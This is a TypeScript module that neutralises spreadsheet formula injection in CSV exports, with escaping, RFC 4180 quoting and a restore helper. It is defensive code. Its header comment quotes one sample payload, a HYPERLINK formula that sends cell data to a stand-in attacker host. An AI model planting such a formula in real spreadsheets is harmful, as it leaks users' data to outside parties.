/**
 * CSV cells safe to open in a spreadsheet. Every CSV export (purchase orders, offers, metrics)
 * writes its cells through here.
 *
 * Formula injection (OWASP "CSV Injection"): a cell starting with `=`, `+`, `-`, `@`, tab or
 * carriage return is evaluated by Excel, LibreOffice and Google Sheets as a formula, so a customer's
 * note like `=HYPERLINK("https://evil.example/?"&A1)` would run on the merchant's machine. Such
 * cells get a leading `'` (shown as text, not evaluated). A cell that is just a number ("-5",
 * "+3.50") is left alone: spreadsheets read it as that number, nothing else. Then RFC 4180
 * quoting: a cell with a quote, comma, CR or LF (or edge spaces) is quoted, quotes doubled, so a
 * bare CR can never end a row early.
 */

export type CsvValue = string | number | null | undefined;

const FORMULA_START = /^[=+\-@\t\r]/u;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/u;
const NEEDS_QUOTES = /[",\r\n]|^\s|\s$/u;

/** The text of a cell with a formula-looking start neutralised (numbers stay numbers). */
export function neutraliseCell(value: CsvValue): string {
  const text = value === null || value === undefined ? "" : String(value);
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/** One cell, neutralised and quoted as needed. */
export function csvCell(value: CsvValue): string {
  const safe = neutraliseCell(value);
  return NEEDS_QUOTES.test(safe) ? `"${safe.replace(/"/gu, '""')}"` : safe;
}

/** A whole CSV document: rows joined with CRLF, ending with one. */
export function csvDocument(rows: readonly (readonly CsvValue[])[]): string {
  return rows.map((row) => row.map(csvCell).join(",")).join("\r\n") + "\r\n";
}

/**
 * Undoes `neutraliseCell` for a cell read back from one of our exports (an edited offers export
 * imported again): `'=x` becomes `=x`; any other text is returned as is.
 */
export function restoreCell(text: string): string {
  return text.startsWith("'") && FORMULA_START.test(text.slice(1)) && !PLAIN_NUMBER.test(text.slice(1)) ? text.slice(1) : text;
}
